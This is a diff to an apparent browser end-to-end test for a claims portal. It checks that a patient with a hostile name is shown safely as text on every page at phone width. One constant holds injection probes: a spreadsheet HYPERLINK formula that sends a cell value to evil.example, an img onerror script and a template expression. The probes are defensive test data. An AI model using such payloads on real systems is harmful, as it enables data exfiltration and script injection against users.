@@ -1,6 +1,6 @@
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
-import { afterAll, beforeAll, expect, test, vi } from 'vitest'
+import { afterAll, beforeAll, expect, test } from 'vitest'
 import { patientTabs } from '#features/claims/patient-tabs.ts'
 import { normalizeForSearch } from '#platform/text/search-form.ts'
 import { tooWide } from '#testing/kit/too-wide.ts'
@@ -8,8 +8,6 @@ import { startPortalInBrowser, type PortalInBrowser, type Visit } from '#testing
 
 // Every screen that shows a person, with names somebody chose to do harm, on a phone: nothing runs, nothing runs out of the
 // side of the page, and the name stands there as text.
-
-vi.setConfig({ testTimeout: 150_000 })
 
 /** Markup, a formula, quotes, a word without a blank longer than a phone is wide. */
 const first = `=HYPERLINK("http://evil.example?"&A1)<img src=x onerror=alert(1)>{{7*7}}${'W'.repeat(40)}`
@@ -104,13 +102,10 @@ test('A supervisor reads every page of a person with a hostile name on a phone',
     `/create-authorization/${known.mc}/${known.sub}/${known.id}`,
     '/team',
   ]
-  const wrong: unknown[] = []
-  const without: string[] = []
   const look = async (place: string) => {
-    const over = await tooWide(page)
-    if (over.length > 0) wrong.push({ place, over })
-    if (!(await page.locator('body').innerText()).includes(seen)) without.push(place)
-    if ((await page.locator('main img[src="x"], main b:empty').count()) > 0) wrong.push({ place, markup: true })
+    await expect.poll(() => page.locator('body').innerText(), { message: place }).toContain(seen)
+    await expect.poll(() => tooWide(page), { message: place }).toEqual([])
+    await expect.poll(() => page.locator('main img[src="x"], main b:empty').count(), { message: place }).toBe(0)
     expect(await page.title()).not.toContain(seen)
     const folder = process.env['PICTURES']
     if (folder) await page.screenshot({ path: join(folder, `hostile${place.replaceAll(/[/?]/g, '-')}.png`) })
@@ -137,8 +132,6 @@ test('A supervisor reads every page of a person with a hostile name on a phone',
     await shown()
     await look(path)
   }
-  expect(wrong).toEqual([])
-  expect(without).toEqual([])
   expect(dialogs).toEqual([])
   expect(visit.complaints).toEqual([])
 })
